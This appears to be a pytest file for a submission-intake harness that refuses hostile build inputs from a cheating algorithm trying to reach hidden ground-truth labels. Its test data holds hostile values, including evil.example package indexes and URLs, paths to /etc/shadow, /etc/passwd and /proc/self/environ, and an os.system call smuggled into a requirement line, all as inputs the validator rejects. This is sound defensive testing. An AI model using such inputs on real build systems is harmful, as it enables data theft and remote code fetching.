"""A hostile submission's build inputs are refused before anything reads, copies or builds them."""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from harness.intake import SubmissionError, check_dockerfile, check_requirements, context_files

SECRET = "s3cret-ground-truth-content"


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    algorithm = tmp_path / "algorithms" / "cheat"
    algorithm.mkdir(parents=True)
    (algorithm / "predict.py").write_text("print('hi')\n")
    (algorithm / "model").mkdir()
    (algorithm / "model" / "weights.bin").write_bytes(b"\0" * 10)
    (tmp_path / "labelsTr").mkdir()
    (tmp_path / "labelsTr" / "case_00.nii.gz").write_text(SECRET)
    return algorithm


def test_the_context_is_the_folders_regular_files(folder: Path) -> None:
    (folder / "__pycache__").mkdir()
    (folder / "__pycache__" / "x.pyc").write_bytes(b"x")
    assert [f.relative for f in context_files(folder)] == ["model/weights.bin", "predict.py"]


@pytest.mark.parametrize("target", ["file", "folder", "proc"])
def test_a_symbolic_link_into_the_ground_truth_or_the_host_is_refused(folder: Path, target: str) -> None:
    labels = folder.parents[1] / "labelsTr"
    if target == "file":
        (folder / "gt.nii.gz").symlink_to(labels / "case_00.nii.gz")
    elif target == "folder":
        (folder / "model" / "gt").symlink_to(labels, target_is_directory=True)
    else:
        (folder / "environ").symlink_to("/proc/self/environ")
    with pytest.raises(SubmissionError, match=r"a symbolic link in the build context; replace it") as error:
        context_files(folder)
    assert SECRET not in str(error.value)


def test_a_fifo_or_a_linked_algorithm_folder_is_refused(folder: Path, tmp_path: Path) -> None:
    os.mkfifo(folder / "pipe")
    with pytest.raises(SubmissionError, match=r"pipe: not a regular file"):
        context_files(folder)
    os.unlink(folder / "pipe")
    (tmp_path / "linked").symlink_to(folder, target_is_directory=True)
    with pytest.raises(SubmissionError, match=r"must be a real folder, not a link"):
        context_files(tmp_path / "linked")


def test_a_folder_beyond_the_bounds_is_refused(folder: Path) -> None:
    for i in range(5):
        (folder / f"f{i}").write_text("x")
    with pytest.raises(SubmissionError, match=r"more than 4 files"):
        context_files(folder, max_files=4)


@pytest.mark.parametrize("line", [
    "-r /proc/self/environ", "--index-url http://evil.example/simple", "--extra-index-url=http://x", "-e .",
    "-c constraints.txt", "--find-links /etc", "--trusted-host evil.example",
    "numpy @ https://evil.example/numpy.whl", "git+https://github.com/x/y", "./local/pkg", "/etc/shadow",
    "https://evil.example/pkg.tar.gz", "numpy==1.0; os.system('x')", "",
])
def test_requirements_other_than_packages_are_refused(tmp_path: Path, line: str) -> None:
    path = tmp_path / "requirements.txt"
    path.write_text(f"numpy==2.2.6\n{line or chr(0) + 'x'}\n")
    with pytest.raises(SubmissionError, match=r"requirements.txt: line 2: ") as error:
        check_requirements(path)
    assert line == "" or line not in str(error.value)  # the file's content is never quoted


def test_package_requirements_pass(tmp_path: Path) -> None:
    path = tmp_path / "requirements.txt"
    path.write_text("# pinned\nnumpy==2.2.6\nscipy>=1.11,<2  # comment\nrequests[socks]~=2.31\n"
                    'tomli>=2 ; python_version < "3.11"\n'
                    "nibabel==5.3.2 \\\n    --hash=sha256:" + "0123abcd" * 8 + "\n\n")
    assert check_requirements(path).lines == ("numpy==2.2.6", "scipy>=1.11,<2", "requests[socks]~=2.31",
                                        'tomli>=2 ; python_version < "3.11"', "nibabel==5.3.2 --hash=sha256:" + "0123abcd" * 8)


def test_a_requirements_file_that_is_not_text_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "requirements.txt"
    path.write_bytes(b"\xff\xfe" + SECRET.encode())
    with pytest.raises(SubmissionError, match=r"line 1: a byte outside printable ASCII"):
        check_requirements(path)


GOOD = "ARG BASE=python:3.11-slim-bookworm\nFROM ${BASE}\nCOPY algorithm/ /opt/algorithm/\n"


@pytest.mark.parametrize("text, fault", [
    ("FROM ubuntu:22.04\n", "line 1: FROM must be the harness's base image"),
    ("ARG BASE\nFROM some.registry.example/team/image:latest\n", "line 2: FROM must be"),
    ("FROM --platform=linux/amd64 ${BASE}\n", "line 1: FROM must be"),
    (GOOD + "ADD https://evil.example/model.bin /opt/\n", "line 4: ADD of a URL"),
    (GOOD + "ADD \\\n  git@github.com:x/y.git /opt/\n", "line 4: ADD of a URL"),
    (GOOD + 'ADD ["http://evil.example/x", "/opt/"]\n', "line 4: ADD of a URL"),
    (GOOD + "COPY --from=alpine:3 /etc/passwd /tmp/\n", "line 4: COPY --from an image"),
    (GOOD + "ONBUILD RUN echo\n", "line 4: ONBUILD"),
    ("# nothing\nRUN echo\n", "no FROM line"),
])
def test_dockerfiles_that_leave_the_base_or_fetch_are_refused(tmp_path: Path, text: str, fault: str) -> None:
    path = tmp_path / "x.Dockerfile"
    path.write_text(text)
    with pytest.raises(SubmissionError, match=fault):
        check_dockerfile(path)


def test_dockerfiles_built_from_the_base_pass(tmp_path: Path) -> None:
    path = tmp_path / "x.Dockerfile"
    path.write_text("# comment\nARG BASE\nFROM $BASE AS build\nRUN echo \\\n  hi\nFROM build\nCOPY --from=build /a /b\n"
                    "ADD algorithm/model.tar /opt/\n")
    check_dockerfile(path)
    repo = Path(__file__).resolve().parents[1]
    for dockerfile in [*sorted((repo / "dockerfiles").glob("*.Dockerfile")), repo / "tests" / "docker" / "behave.Dockerfile"]:
        check_dockerfile(dockerfile)
